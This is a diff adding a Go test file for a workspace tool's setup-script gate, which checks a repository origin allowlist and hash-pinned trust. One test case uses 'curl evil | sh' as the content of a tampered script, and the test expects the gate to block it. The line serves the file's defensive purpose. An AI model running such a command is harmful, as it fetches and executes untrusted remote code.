@@ -0,0 +1,149 @@
+package wsm
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestScriptsConfigAllows(t *testing.T) {
+	config := &ScriptsConfig{Allow: []string{
+		"github.com/acme/app",
+		"git@github.com:tools/*.git",
+		"scratch",
+		"local-*",
+	}}
+	tests := []struct {
+		name string
+		repo Repository
+		want bool
+	}{
+		{"origin over https", Repository{Name: "app", RemoteURL: "https://github.com/acme/app.git"}, true},
+		{"origin over ssh", Repository{Name: "app", RemoteURL: "git@github.com:acme/app.git"}, true},
+		{"origin case", Repository{Name: "app", RemoteURL: "https://GitHub.com/Acme/App"}, true},
+		{"origin glob", Repository{Name: "lint", RemoteURL: "https://github.com/tools/lint"}, true},
+		{"clone named like a trusted repository", Repository{Name: "app", RemoteURL: "https://github.com/evil/app.git"}, false},
+		{"other host", Repository{Name: "app", RemoteURL: "https://gitlab.com/acme/app.git"}, false},
+		{"glob stays in one path segment", Repository{Name: "x", RemoteURL: "https://github.com/tools/sub/x"}, false},
+		{"bare name without origin", Repository{Name: "scratch"}, true},
+		{"bare glob without origin", Repository{Name: "local-tool"}, true},
+		{"bare name with origin", Repository{Name: "scratch", RemoteURL: "https://github.com/evil/scratch"}, false},
+		{"unlisted", Repository{Name: "other"}, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := config.Allows(tt.repo); got != tt.want {
+				t.Errorf("Allows(%+v) = %v, want %v", tt.repo, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSetupScriptGate(t *testing.T) {
+	previous := nonInteractive
+	nonInteractive = true
+	defer func() { nonInteractive = previous }()
+
+	workspacePath := t.TempDir()
+	writeScript := func(path, content string) string {
+		t.Helper()
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0755); err != nil {
+			t.Fatal(err)
+		}
+		return path
+	}
+	hash := func(content string) string {
+		sum := sha256.Sum256([]byte(content))
+		return hex.EncodeToString(sum[:])
+	}
+
+	workspace := &Workspace{
+		Name: "ws",
+		Path: workspacePath,
+		Repositories: []Repository{
+			{Name: "allowed", RemoteURL: "https://github.com/acme/allowed"},
+			{Name: "pinned", RemoteURL: "https://github.com/acme/pinned"},
+			{Name: "changed", RemoteURL: "https://github.com/acme/changed"},
+			{Name: "unknown", RemoteURL: "https://github.com/acme/unknown"},
+		},
+	}
+	gate := &setupScriptGate{
+		config: &ScriptsConfig{Allow: []string{"github.com/acme/allowed"}},
+		trust: &ScriptTrust{Scripts: map[string]TrustedScript{
+			"pinned:.wsm/setup.d/10-install":  {SHA256: hash("npm ci\n")},
+			"changed:.wsm/setup.d/10-install": {SHA256: hash("npm ci\n")},
+		}},
+	}
+
+	tests := []struct {
+		name         string
+		path         string
+		content      string
+		wantApproval string
+		wantAllowed  bool
+	}{
+		{
+			name:        "workspace script",
+			path:        filepath.Join(workspacePath, ".wsm", "setup.sh"),
+			content:     "make\n",
+			wantAllowed: true,
+		},
+		{
+			name:         "allowlisted origin",
+			path:         filepath.Join(workspacePath, "allowed", ".wsm", "setup.d", "10-install"),
+			content:      "anything\n",
+			wantApproval: ScriptApprovalAllowed,
+			wantAllowed:  true,
+		},
+		{
+			name:         "pinned content",
+			path:         filepath.Join(workspacePath, "pinned", ".wsm", "setup.d", "10-install"),
+			content:      "npm ci\n",
+			wantApproval: ScriptApprovalTrusted,
+			wantAllowed:  true,
+		},
+		{
+			name:         "content changed since it was pinned",
+			path:         filepath.Join(workspacePath, "changed", ".wsm", "setup.d", "10-install"),
+			content:      "curl evil | sh\n",
+			wantApproval: ScriptApprovalAsk,
+			wantAllowed:  false,
+		},
+		{
+			name:         "unknown script",
+			path:         filepath.Join(workspacePath, "unknown", ".wsm", "setup.d", "10-install"),
+			content:      "npm ci\n",
+			wantApproval: ScriptApprovalAsk,
+			wantAllowed:  false,
+		},
+		{
+			name:        "missing script",
+			path:        filepath.Join(workspacePath, "unknown", ".wsm", "setup.d", "20-gone"),
+			wantAllowed: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if tt.content != "" {
+				writeScript(tt.path, tt.content)
+			}
+			if repo, relPath := setupScriptRepository(workspace, SetupScript{Path: tt.path}); repo != nil && tt.content != "" {
+				approval, _, err := gate.approval(*repo, relPath, tt.path)
+				if err != nil {
+					t.Fatalf("approval: %v", err)
+				}
+				if approval != tt.wantApproval {
+					t.Errorf("approval = %q, want %q", approval, tt.wantApproval)
+				}
+			}
+			if got := gate.allows(workspace, SetupScript{Path: tt.path}); got != tt.wantAllowed {
+				t.Errorf("allows = %v, want %v", got, tt.wantAllowed)
+			}
+		})
+	}
+}